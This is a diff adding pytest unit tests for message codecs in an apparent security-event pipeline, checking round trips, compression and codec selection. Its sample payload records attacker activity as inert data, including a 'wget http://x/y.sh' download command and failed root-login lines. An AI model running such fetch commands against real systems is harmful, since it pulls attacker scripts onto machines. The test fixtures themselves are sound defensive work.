@@ -0,0 +1,64 @@
+"""
+Unit Tests for the Message Codecs
+Tests payload round trips, compression thresholds and codec negotiation
+"""
+
+import sys
+from pathlib import Path
+
+import pytest
+
+sys.path.insert(0, str(Path(__file__).parent.parent.parent))
+
+from src.pipeline.message_codecs import (
+    MSGPACK_AVAILABLE, ZSTD_AVAILABLE, decode_payload, encode_payload, resolve_codec
+)
+
+PAYLOAD = {
+    'event_type': 'attack',
+    'attacker_ip': '185.220.101.45',
+    'details': {'commands': ['uname -a', 'wget http://x/y.sh'], 'score': 0.93},
+}
+LARGE = {'case_id': 'CASE-1', 'data': {'log': 'Failed password for root\n' * 500}}
+
+SPECS = ['json', 'json+zlib']
+if MSGPACK_AVAILABLE:
+    SPECS += ['msgpack', 'msgpack+zlib']
+    if ZSTD_AVAILABLE:
+        SPECS.append('msgpack+zstd')
+
+
+class TestMessageCodecs:
+    """Test suite for encode_payload / decode_payload"""
+
+    @pytest.mark.parametrize('spec', SPECS)
+    def test_round_trip(self, spec):
+        for payload in (PAYLOAD, LARGE):
+            codec_name, data = encode_payload(payload, spec)
+            assert decode_payload(data, codec_name) == payload
+
+    def test_json_stays_text(self):
+        """The default codec writes the same kind of field older consumers expect"""
+        codec_name, data = encode_payload(PAYLOAD)
+        assert codec_name == 'json' and isinstance(data, str)
+
+    def test_compression_threshold(self):
+        small_codec, _ = encode_payload(PAYLOAD, 'json+zlib', min_compress_size=1024)
+        large_codec, data = encode_payload(LARGE, 'json+zlib', min_compress_size=1024)
+
+        assert small_codec == 'json'
+        assert large_codec == 'json+zlib'
+        assert len(data) < len(LARGE['data']['log']) / 10
+
+    @pytest.mark.skipif(not MSGPACK_AVAILABLE, reason="msgpack not installed")
+    def test_msgpack_smaller_than_json(self):
+        _, json_data = encode_payload(PAYLOAD, 'json')
+        _, packed = encode_payload(PAYLOAD, 'msgpack')
+        assert isinstance(packed, bytes)
+        assert len(packed) < len(json_data)
+
+    def test_unknown_codec(self):
+        with pytest.raises(ValueError):
+            resolve_codec('protobuf')
+        with pytest.raises(ValueError):
+            resolve_codec('json+lz4')